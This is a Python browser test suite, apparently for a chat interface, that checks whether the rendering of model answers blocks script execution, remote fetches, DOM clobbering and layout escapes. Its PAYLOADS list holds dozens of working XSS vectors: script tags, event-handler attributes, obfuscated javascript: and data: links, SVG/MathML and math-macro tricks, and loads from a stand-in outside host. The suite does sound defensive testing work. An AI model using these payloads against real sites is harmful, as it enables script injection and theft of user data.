"""Answers that are made to do harm, in a real browser: they run nothing, fetch nothing, and stay where they are."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from page_run import ask_and_wait, browsing, needs_browser, opened
from server_fakes import FakeModel
from server_run import serving

pytestmark = needs_browser

RUN = "window.hacked=1;alert(1)"
FAR = "http://far.example"
PAYLOADS = [
    # Elements that run or fetch.
    f"<script>{RUN}</script>",
    f"<script src={FAR}/x.js></script>",
    f"<SCRIPT/x>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}",
    f"</div></article></main><script>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src='x' onerror='{RUN}'",
    f'<img src={FAR}/x.png srcset="{FAR}/y.png 2x">',
    f"<body onload='{RUN}'>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<p onmouseover='{RUN}' style='position:fixed;inset:0'>x</p>",
    f"<video autoplay oncanplay='{RUN}'><source src={FAR}/x.mp4></video>",
    f"<audio src={FAR}/x.mp3 onerror='{RUN}'>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={FAR}/x.swf></object><embed src={FAR}/y.swf>",
    f"<link rel=stylesheet href={FAR}/x.css><link rel=prefetch href={FAR}/y>",
    f"<style>@import '{FAR}/x.css'; *{{background:url({FAR}/y)}}</style>",
    f"<div style='background:url({FAR}/x)'>x</div>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}/>",
    f"<form action={FAR}><button>x</button></form>",
    f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    # SVG and MathML.
    f"<svg onload='{RUN}'></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a><use href='{FAR}/x.svg#y'/></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><iframe src='javascript:{RUN}'></iframe></foreignObject></svg>",
    f"<math><maction actiontype='statusline#{FAR}' xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{RUN}'><mi>x</mi></math>",
    # Links.
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](  javascript:{RUN})",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](javascript&colon;{RUN})",
    f"[x](&#x6A&#x61vascript:{RUN})",
    f"[x](&#106;avascript&#58;{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](java\u200bscript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](blob:{FAR}/x) [y](filesystem:{FAR}/x) [z](file:///etc/passwd) [v](view-source:{FAR})",
    f"[x](http:javascript:{RUN}) [y](https:{RUN})",
    f'[x](https://a.example "\\" onmouseover=\\"{RUN}")',
    f'[x](https://a.example/"onmouseover="{RUN})',
    f"<javascript:{RUN}> <data:text/html,x>",
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f"[x]: data:text/html,{RUN} 'title'\n\n[x] ![x]",
    f"[![x](javascript:{RUN})](javascript:{RUN})",
    # Images.
    f"![x]({FAR}/x.png)",
    f"![x](<{FAR}/x.png?secret> 'title')",
    f"![x][y]\n\n[y]: {FAR}/x.png",
    f"[![x]({FAR}/x.png)]({FAR})",
    f"![x](data:image/svg+xml,<svg onload='{RUN}'/>)",
    f"![<img src=x onerror='{RUN}'>]({FAR}/x.png)",
    # The page's own names.
    "<form id=text><input name=value></form><a id=log></a><img name=body><div id=turns class=copy-code>x</div>",
    "<a id=location href=x></a><input name=getElementById><form name=cookie></form>",
    # Code.
    f"```<img src=x onerror='{RUN}'>\nx\n```",
    f'```"onmouseover="{RUN}\nx\n```',
    f"```html\n</code></pre><script>{RUN}</script><img src=x onerror='{RUN}'>\n```",
    "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString\nx\n```",
    f"```markdown\n[x](javascript:{RUN}) <script>{RUN}</script>\n```",
    f"`</code><script>{RUN}</script>`",
    f"    <script>{RUN}</script>",
    # Maths.
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\url{{javascript:{RUN}}}$",
    f"$\\href{{{FAR}}}{{x}}$ $$\\includegraphics{{{FAR}/x.png}}$$",
    "$\\htmlClass{copy-code}{x}$ $\\htmlId{text}{x}$ $\\htmlData{code=1}{x}$ $\\class{copy}{x}$ $\\id{log}{x}$",
    f"$\\htmlStyle{{background:url({FAR}/x)}}{{x}}$ $\\style{{position:fixed}}{{x}}$ $\\color{{url({FAR}/y)}}{{x}}$",
    f"$\\text{{<img src=x onerror='{RUN}'>}}$ $\\text{{</mtext></math><script>{RUN}</script>}}$",
    "$$\\begin{equation} x \\label{text} \\end{equation} \\ref{text}$$",
    "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\y}{\\y}\\y$ $\\rule{9999em}{9999em}$ $\\hspace{-9999em}x$",
    f"$\\colorbox{{red;background:url({FAR}/x)}}{{x}}$ $\\textcolor{{expression({RUN})}}{{x}}$",
    f"$\\unicode{{x3c}}script\\unicode{{x3e}} \\char`< $ $\\verb|<script>{RUN}</script>|$",
    # Tables, headings, odd texts.
    f"| <script>{RUN}</script> | [x](javascript:{RUN}) |\n|:-:|-:|\n| <img src=x onerror='{RUN}'> | ![x]({FAR}/x) |",
    f"# <img src=x onerror='{RUN}'> {{#text onclick={RUN}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"\u202e<script>{RUN}</script>\u202c\u200b\u2066\x00",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"{'> ' * 200}<script>{RUN}</script>",
    f"{'<b>' * 500}<script>{RUN}</script>",
]

# fmt: off
ELEMENTS = {"p", "br", "ul", "ol", "li", "blockquote", "hr", "table", "thead", "tbody", "tr", "th", "td", "strong",
    "em", "s", "h3", "h4", "h5", "h6", "a", "code", "pre", "div", "span", "button"}
# fmt: on
ATTRIBUTES = {"href", "title", "target", "rel", "class", "start", "type", "tabindex", "data-code"}
MATHML = "http://www.w3.org/1998/Math/MathML"
# fmt: off
OF_MATHML = {"display", "class", "style", "mathvariant", "stretchy", "fence", "form", "separator", "lspace",
    "rspace", "width", "height", "depth", "voffset", "scriptlevel", "displaystyle", "linethickness", "accent",
    "accentunder", "columnalign", "columnspan", "rowspan", "notation", "minsize", "maxsize", "symmetric", "largeop",
    "movablelimits", "mathcolor", "mathbackground"}
# fmt: on


@pytest.fixture(scope="module")
def model() -> FakeModel:
    return FakeModel()


@pytest.fixture(scope="module")
def page(model: FakeModel) -> Iterator[Any]:
    with browsing() as browser, serving(model) as running, opened(browser, running.url) as found:
        yield found


def test_there_are_many() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload[:40])
def test_nothing_runs_and_nothing_is_fetched(page: Any, model: FakeModel, payload: str) -> None:
    model.script = lambda prompt, options: f"before {payload} after\n\n{payload}\n\n- {payload}\n\nthe end"
    page.click("#new")
    said = ask_and_wait(page, "Hello")
    check(page, said)
    assert "before" in said.inner_text()
    page.check("#drafted")
    check(page, said)
    page.uncheck("#drafted")


def check(page: Any, said: Any) -> None:
    elements = said.evaluate(
        """said => [...said.querySelectorAll("*")].map(element =>
            [element.namespaceURI, element.localName, [...element.attributes].map(one => [one.name, one.value])])"""
    )
    for space, name, attributes in elements:
        if space == MATHML:
            assert {key for key, _ in attributes} <= OF_MATHML
            assert not any("url(" in value or "fixed" in value for _, value in attributes)
            continue
        assert name in ELEMENTS
        assert {key for key, _ in attributes} <= ATTRIBUTES
    links = said.locator("a").evaluate_all("all => all.map(link => [link.protocol, link.rel, link.target])")
    assert all(
        link in [[kind, "noopener noreferrer", "_blank"] for kind in ("http:", "https:", "mailto:")] for link in links
    )
    told = "[document.title, window.hacked, document.getElementById('text').value, document.body.children.length]"
    assert page.evaluate(told) == ["medusa · fake", None, "", 5]
    box, log = said.bounding_box(), page.locator("#log").bounding_box()
    assert log["x"] <= box["x"]
    assert box["x"] + box["width"] <= log["x"] + log["width"]
    assert page.complaints == []


def test_the_policy_stands_behind_it(page: Any) -> None:
    """Were a script of ours to make HTML of a text after all, the browser would refuse."""
    refused = page.evaluate(
        """() => {
            const place = document.createElement("div");
            const attempts = [
                () => { place.innerHTML = "<b>x</b>"; },
                () => place.insertAdjacentHTML("beforeend", "<b>x</b>"),
                () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
                () => trustedTypes.createPolicy("default", { createHTML: (text) => text }),
                () => { document.createElement("script").src = "/chat.js"; },
            ];
            return attempts.filter((attempt) => { try { attempt(); } catch { return true; } }).length;
        }"""
    )
    assert refused == 5
    page.complaints.clear()


def test_maths_stays_within_its_answer(page: Any, model: FakeModel) -> None:
    model.script = lambda prompt, options: "x $\\hspace{-200em}\\rule{30em}{400em}$ y\n\n$$\\raisebox{50em}{up}$$"
    page.click("#new")
    said = ask_and_wait(page, "Hello")
    inside = said.evaluate("said => getComputedStyle(said).contain")
    assert inside == "paint"
    for name in ("send", "new", "options-button"):
        box = page.locator(f"#{name}").bounding_box()
        at = [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2]
        assert page.evaluate("([x, y]) => document.elementFromPoint(x, y).id", at) == name
